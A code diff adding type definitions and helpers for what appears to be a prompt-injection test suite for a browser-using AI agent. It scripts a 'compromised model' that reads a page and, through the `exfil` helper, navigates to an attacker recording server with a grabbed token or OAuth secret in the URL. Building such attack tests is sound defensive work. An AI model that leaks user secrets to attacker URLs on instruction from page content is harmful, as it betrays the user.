@@ -1,0 +1,70 @@
+import type { Page } from 'playwright-core';
+import type { Mode } from '../../../src/modes';
+import { step, type ScriptStep, type ScriptView } from '../../fake-providers/script';
+
+/** Where an attack case runs. `run` is unique per case: pages key their storage by it. */
+export interface Urls {
+  /** The attacker's recording server: another port on 127.0.0.1, so another origin. */
+  attacker: string;
+  /** A second site (127.0.0.2): cross-origin frames, "another logged-in site". */
+  partner: string;
+  server: string;
+  run: string;
+  /** A path on the fixture server with this case's `run` query parameter added. */
+  page(path: string): string;
+}
+
+/** What the user answers the n-th approval prompt with. */
+export type Decision = 'deny' | 'approve' | 'trust';
+
+export interface AttackTask {
+  task: string;
+  steps: ScriptStep[];
+  /** The compromised model's final answer, rendered by the real panel (Markdown aimed at it). */
+  final?: (v: ScriptView) => string;
+  /** Answers to this task's approval prompts in order; missing ones are "deny". */
+  approvals?: Decision[];
+}
+
+export interface Attack {
+  id: string;
+  /** The issue's numbered item this attacks (1–9), or 0 for the extra injection vectors. */
+  item: number;
+  what: string;
+  /** Fixture path (may carry a query); served with {{ATTACKER}}/{{PARTNER}}/{{SERVER}} filled in. */
+  page: string;
+  /** Open the page as http://shop.example:<port> (mapped to 127.0.0.1) instead of 127.0.0.1. */
+  publicHost?: boolean;
+  modes: Mode[];
+  /** Earlier tasks are the user's own (their approvals are legitimate); the last one is the attack. */
+  tasks: (u: Urls) => AttackTask[];
+  /** Act/Dev: the user must be asked at least this often during the attack task (default 0). */
+  asks?: number;
+  /** Page strings that may reach the model only inside the nonce fence. */
+  fenced?: string[];
+  /** Strings that must never reach the model at all. */
+  neverSeen?: string[];
+  /** Some tool result of the attack task must match (e.g. the stale-ref refusal). */
+  result?: RegExp;
+  /** Every approval text must be at most this long (page labels are capped). */
+  maxDescription?: number;
+  /** Writes (POST/PUT/PATCH/DELETE) the attack task may legitimately make to the page's own servers. */
+  writes?: number;
+  /** What "the page's state" means (default: tab URL, every frame's #state, open tabs, writes). */
+  state?: (page: Page) => Promise<string>;
+  /** Runs before the page opens; returns a cleanup. */
+  setup?: (u: Urls, open: (url: string) => Promise<Page>) => Promise<() => Promise<void>>;
+  /** Runs when the n-th approval prompt shows, before it is answered. */
+  beforeDecision?: (page: Page, u: Urls, n: number) => Promise<void>;
+  /** Runs on the panel page after the answer rendered (e.g. the sanitizer-bypassed CSP probe). */
+  panelProbe?: (panel: Page, u: Urls) => Promise<void>;
+}
+
+export const read = step('get_accessibility_tree', {});
+export const nav = (url: string): ScriptStep => step('navigate', { url });
+export const click = (name: RegExp, role = /.*/): ScriptStep =>
+  step('click_ax', (v) => ({ ref_id: v.ref(role, name) }));
+/** The page's secret, as the compromised model copies it into a URL. */
+export const secret = (v: ScriptView): string => v.grabOr(/((?:TOKEN|MAIL|OAUTH)-[A-Z0-9-]+)/, 'nothing-found');
+export const exfil = (base: string, path: string): ScriptStep =>
+  step('navigate', (v) => ({ url: `${base}${path}?d=${secret(v)}` }));
